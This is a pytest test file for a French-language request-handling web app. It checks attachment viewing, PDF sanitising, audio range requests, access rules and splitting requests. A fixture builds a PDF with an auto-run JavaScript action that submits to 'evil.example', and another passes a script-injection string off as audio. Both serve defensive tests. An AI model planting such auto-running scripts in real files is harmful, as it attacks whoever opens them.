"""What the source viewer is given: words on pages, attachments as pages, parts of a message taken out; and to whom (issue 8, point 1)."""

import io
import re
import wave
from collections.abc import Iterable, Iterator
from dataclasses import replace
from html import unescape
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from domain.errors import BusyError, InvalidError
from domain.ids import RequestId
from domain.inbound import Channel
from domain.paper import Page
from domain.request import Status
from flows.cut import Span
from flows.wording import say
from ingest.paper.opening.survey import Survey
from ingest.paper.reader import PaperReader
from store import requests
from store.blobs import Blobs
from store.requests import RequestRecord
from tests.flows.test_paper import joined
from tests.web import seed
from tests.web.conftest import ORIGIN, Browser, Hall
from tests.web.papers import BEHIND, POTHOLE
from web.viewer import passages_of, span_of_passages, span_of_selection

TROUBLE = next(one for one in seed.STORIES if one.heading == "Encombrants")
TWO = "Bonjour,\n\nUn trou s’est ouvert.\n\nLe lampadaire ne s’allume plus.\n\nPaul"


def photo() -> bytes:
    """Return a photo in colour that says where it was taken."""
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (49.0, 30.0, 33.0), 3: "W", 4: (1.0, 28.0, 12.0)}
    made = io.BytesIO()
    Image.new("RGB", (320, 240), (200, 40, 40)).save(made, "JPEG", exif=exif)
    return made.getvalue()


def hostile() -> bytes:
    """Return a PDF of two pages that wants to run a script when it is opened."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(joined(POTHOLE, BEHIND))) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('ran'); this.submitForm('http://evil.example/');")
        pdf.Root.OpenAction = pdf.make_indirect(script)
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=script)
        pdf.save(made)
    return made.getvalue()


FILES = (("photo.jpg", "image/jpeg", photo()), ("plan <été>.pdf", "application/pdf", hostile()), ("page.html", "text/html", b"<b>1</b>"))


def keep(hall: Hall, **changed: object) -> RequestId:
    with hall.installation.database.write() as session:
        blobs = Blobs(hall.installation.settings.blobs_folder)
        story = replace(TROUBLE, **{"heading": "Deux soucis", "attachments": FILES, **changed})  # type: ignore[arg-type]
        return seed.keep(session, blobs, seed.VALOGNES, story)


def record(hall: Hall, request: RequestId) -> RequestRecord:
    with hall.installation.database.read() as session:
        return requests.get(session, request)


def part(hall: Hall, request: RequestId, filename: str) -> int:
    return next(one.part for one in record(hall, request).draft.attachments if one.filename == filename)


# --- attachments ----------------------------------------------------------------------------------------------------------------------


def test_attachments_are_listed_and_looked_at_in_the_viewer(claire: Browser, hall: Hall) -> None:
    request = keep(hall)
    page = claire.get(f"/requests/{request}")
    photo_part, plan = part(hall, request, "photo.jpg"), part(hall, request, "plan <été>.pdf")
    assert re.findall(r'href="\?view=piece-(\d+)#source"', page) == [str(photo_part), str(plan)]  # the page that may run programs is not
    shown = claire.get(f"/requests/{request}?view=piece-{plan}")
    base = f"/requests/{request}/attachments/{plan}"
    assert f'src="{base}/pages/1.png?dpi=150"' in shown and f'src="{base}/pages/2.png?dpi=150"' in shown
    assert f'data-pdf="{base}/searchable.pdf"' in shown and "plan &lt;été&gt;.pdf" in shown and "<été>" not in shown
    first = claire.client.get(f"{base}/pages/1.png")
    assert first.headers["content-type"] == "image/png" and "sandbox" in first.headers["content-security-policy"]
    assert Image.open(io.BytesIO(first.content)).width == 1240
    assert claire.status(f"{base}/pages/3.png") == 404
    assert "Poterie." in claire.get(f"{base}/words")


def test_words_of_attachments_are_read_once_and_one_attachment_at_a_time(
    claire: Browser, hall: Hall, monkeypatch: pytest.MonkeyPatch
) -> None:
    request = keep(hall)
    plan = f"/requests/{request}/attachments/{part(hall, request, 'plan <été>.pdf')}"
    asked: list[int] = []
    read = PaperReader.pages

    def counted(paper: PaperReader, path: Path, survey: Survey, numbers: Iterable[int], channel: Channel) -> Iterator[Page]:
        asked.append(1)
        return read(paper, path, survey, numbers, channel)

    monkeypatch.setattr(PaperReader, "pages", counted)
    first = claire.get(f"{plan}/words")
    assert claire.get(f"{plan}/words") == first and "Poterie." in claire.get(f"{plan}/text") and len(asked) == 1
    monkeypatch.setattr(hall.installation.pieces, "read", busy)
    refused = claire.client.get(f"{plan}/words")
    assert refused.status_code == 503 and refused.headers["retry-after"] == "10" and "en cours de lecture" in unescape(refused.text)
    # What is at hand is for nobody who may not read the attachment.
    monkeypatch.undo()
    assert claire.sign_in("lea") == 303 and claire.status(f"{plan}/words") == 404


def busy(*_: object) -> tuple[Page, ...]:
    raise BusyError(say("Other attachments are being read just now. Try again in some seconds."))


def test_a_photo_is_shown_in_its_colours_with_the_place_it_was_taken_at(claire: Browser, hall: Hall) -> None:
    request = keep(hall)
    place = part(hall, request, "photo.jpg")
    page = claire.get(f"/requests/{request}?view=piece-{place}")
    assert "49.50917, -1.47" in page and "data-pdf=" not in page
    answer = claire.client.get(f"/requests/{request}/attachments/{place}/pages/1.png")
    assert answer.headers["content-type"] == "image/jpeg" and answer.headers["x-content-type-options"] == "nosniff"
    assert Image.open(io.BytesIO(answer.content)).mode == "RGB"


def test_the_pdf_for_the_viewer_runs_nothing(claire: Browser, hall: Hall) -> None:
    request = keep(hall)
    answer = claire.client.get(f"/requests/{request}/attachments/{part(hall, request, 'plan <été>.pdf')}/searchable.pdf")
    assert answer.headers["content-disposition"].startswith("attachment")
    with pikepdf.open(io.BytesIO(answer.content)) as pdf:
        assert "/OpenAction" not in pdf.Root and "/AA" not in pdf.pages[0].obj
    assert b"submitForm" not in answer.content


def test_what_is_dangerous_or_not_there_is_not_looked_at(claire: Browser, hall: Hall) -> None:
    request = keep(hall)
    page = part(hall, request, "page.html")
    for wrong in (page, 99, 999_999):
        base = f"/requests/{request}/attachments/{wrong}"
        assert {claire.status(f"{base}/{one}") for one in ("words", "pages/1.png", "searchable.pdf")} == {404}
        shown = claire.get(f"/requests/{request}?view=piece-{wrong}")
        assert 'data-viewer="text"' in shown and 'data-viewer="pages"' not in shown


def spoken(seconds: int = 2) -> bytes:
    """Return a recording as telephone systems send them."""
    made = io.BytesIO()
    with wave.open(made, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8_000)
        sound.writeframes(bytes(range(100, 150)) * 160 * seconds)
    return made.getvalue()


def test_a_voice_message_sent_by_mail_is_listened_to_and_gone_back_in(claire: Browser, hall: Hall) -> None:
    said = spoken()
    request = keep(hall, attachments=(("msg0001.wav", "audio/x-wav", said), ("faux.wav", "audio/wav", b"<script>alert(1)</script>")))
    base = f"/requests/{request}/attachments"
    place = f"{base}/{part(hall, request, 'msg0001.wav')}/sound"
    shown = claire.get(f"/requests/{request}")
    assert f'src="{place}" aria-label="Écouter msg0001.wav"' in unescape(shown)
    whole = claire.client.get(place)
    assert (whole.status_code, whole.content, whole.headers["content-type"]) == (200, said, "audio/wav")
    assert "sandbox" in whole.headers["content-security-policy"] and whole.headers["accept-ranges"] == "bytes"
    for asked, status, stretch in (
        ("bytes=0-", 206, said),
        ("bytes=100-199", 206, said[100:200]),
        (f"bytes={len(said) - 5}-{len(said) + 90}", 206, said[-5:]),
        ("bytes=9-3", 416, b""),
        (f"bytes={len(said)}-", 416, b""),
        ("pages=1-2", 200, said),
    ):
        answer = claire.client.get(place, headers={"Range": asked})
        assert (answer.status_code, answer.content) == (status, stretch), asked
    assert claire.client.get(place, headers={"Range": "bytes=100-199"}).headers["content-range"] == f"bytes 100-199/{len(said)}"
    for other in (part(hall, request, "faux.wav"), 99):
        assert claire.status(f"{base}/{other}/sound") == 404
    dangerous = keep(hall)
    assert claire.status(f"/requests/{dangerous}/attachments/{part(hall, dangerous, 'page.html')}/sound") == 404


@pytest.mark.parametrize("login", ["", "lea"])
def test_nobody_else_gets_a_page_a_word_or_the_form_to_cut(login: str, browser: Browser, hall: Hall) -> None:
    request = keep(hall)
    if login:
        assert browser.sign_in(login) == 303
    base = f"/requests/{request}"
    plan = f"{base}/attachments/{part(hall, request, 'plan <été>.pdf')}"
    for path in (f"{plan}/words", f"{plan}/sound", f"{plan}/pages/1.png", f"{plan}/searchable.pdf", f"{base}/words", f"{base}/cut"):
        answer = browser.client.get(path, follow_redirects=False)
        assert answer.status_code == (404 if login else 303), path


# --- a part taken out -----------------------------------------------------------------------------------------------------------------


def send(browser: Browser, request: RequestId, **fields: object) -> tuple[int, str, str]:
    page = f"/requests/{request}/cut"
    token = browser.token(page)
    version = re.findall(r'name="version" value="(\d+)"', browser.get(page))[0]
    answer = browser.client.post(
        page, data={"csrf": token, "version": version, **fields}, headers={"Origin": ORIGIN}, follow_redirects=False
    )
    return answer.status_code, answer.headers.get("location", ""), answer.text


def test_paragraphs_chosen_become_a_request_of_their_own(claire: Browser, hall: Hall) -> None:
    request = keep(hall, text=TWO)
    assert f'href="/requests/{request}/cut"' in claire.get(f"/requests/{request}")
    assert claire.get(f"/requests/{request}/cut").count('name="passage"') == 4
    status, location, _ = send(claire, request, passage=["2"])
    assert status == 303 and location.startswith(f"/requests/{request}?cut=")
    made = RequestId(int(location.rpartition("=")[2]))
    assert record(hall, made).details == "Le lampadaire ne s’allume plus." and record(hall, made).line.status is Status.REVIEW
    assert "lampadaire" not in record(hall, request).details
    assert record(hall, request).history[-1].action == "cut"
    assert f'<a href="/requests/{made}">' in claire.get(location)
    # Another request, named by hand, is not told of.
    assert "est maintenant une demande à part" not in claire.get(f"/requests/{request}?cut={hall.ids['trou']}")


@pytest.mark.parametrize(
    ("chosen", "says"),
    [
        ([], "Choisissez ce qui demande autre chose."),
        (["0", "2"], "Choisissez des paragraphes qui se suivent. Recommencez pour les autres."),
        (["7"], "Choisissez ce qui demande autre chose."),
        (["0", "1", "2", "3"], "Il ne resterait rien de la demande."),
    ],
)
def test_what_cannot_be_cut_says_why_and_keeps_what_was_chosen(chosen: list[str], says: str, claire: Browser, hall: Hall) -> None:
    request = keep(hall, text=TWO)
    status, _, page = send(claire, request, passage=chosen)
    assert status == 422 and says in page
    assert page.count(" checked") == len([one for one in chosen if one != "7"])
    assert record(hall, request).details == TWO


def test_of_a_text_with_thousands_of_paragraphs_the_first_and_the_last_are_told(claire: Browser, hall: Hall) -> None:
    text = "\n\n".join(f"Alinéa {number}." for number in range(1, 6_001))
    request = keep(hall, text=text)
    page = claire.get(f"/requests/{request}/cut")
    assert 'name="passage"' not in page and page.count("<li>Alinéa ") == 6_000
    for first, last in (("0", "3"), ("5", "4"), ("1", "6001"), ("9999999", "10000000")):
        status, _, page = send(claire, request, first=first, last=last)
        assert status == 422 and "de 1 à 6000" in page and f'value="{last}"' in page
    assert record(hall, request).details == text
    status, location, _ = send(claire, request, first="2", last="5999")
    assert status == 303
    made = record(hall, RequestId(int(location.rpartition("=")[2]))).details
    assert made.startswith("Alinéa 2.") and made.endswith("Alinéa 5999.")


def test_a_request_that_has_changed_or_is_decided_is_not_cut(claire: Browser, hall: Hall) -> None:
    request = keep(hall, text=TWO)
    status, _, page = send(claire, request, passage=["2"], version="99")
    assert status == 409 and "Rien n’a été modifié" in page
    assert record(hall, request).details == TWO
    assert claire.status(f"/requests/{hall.ids['trou']}/cut") == 409
    assert "/cut" not in claire.get(f"/requests/{hall.ids['trou']}")


def test_words_selected_are_shown_before_they_are_cut(claire: Browser, hall: Hall) -> None:
    request = keep(hall, text=TWO)
    start = TWO.index("Le lampadaire")
    page = claire.get(f"/requests/{request}/cut?start={start}&end={start + 13}")
    assert '<blockquote class="cut-words">Le lampadaire</blockquote>' in page
    assert f'name="start" value="{start}"' in page and f'name="end" value="{start + 13}"' in page
    assert "Rien du texte de cette demande" in claire.get(f"/requests/{request}/cut?start=9&end=10")


def test_a_selection_is_found_in_what_is_the_requests_own(hall: Hall) -> None:
    whole = record(hall, keep(hall, text=TWO))
    at = TWO.index("Le lampadaire")
    assert span_of_selection(whole, at - 2, at + 13) == Span(start=at, end=at + 13)
    own = replace(whole, details=TWO[at:], offset=at)
    assert span_of_selection(own, at, at + 13) == Span(start=0, end=13)
    with pytest.raises(InvalidError):
        span_of_selection(own, 0, 7)
    cut = replace(whole, details="Bonjour,\n\n[…]\n\nLe lampadaire ne s’allume plus.")
    assert span_of_selection(cut, at, at + 13) == Span(start=15, end=28)


@pytest.mark.parametrize(
    ("text", "count"),
    [
        (TWO, 4),
        ("Un trou.\nUn lampadaire éteint.", 2),
        ("Un trou s’est ouvert. Le lampadaire est éteint !", 2),
        ("Un trou", 1),
        ("", 0),
        ("\n\n", 0),
    ],
)
def test_a_text_is_parted_where_its_writer_parted_it(text: str, count: int) -> None:
    found = passages_of(text)
    assert len(found) == count
    assert all(text[one.start : one.end] == one.text and one.text.strip() for one in found)


def test_paragraphs_side_by_side_are_one_stretch_with_what_lies_between() -> None:
    span = span_of_passages(TWO, [2, 1, 2])
    assert TWO[span.start : span.end] == "Un trou s’est ouvert.\n\nLe lampadaire ne s’allume plus."
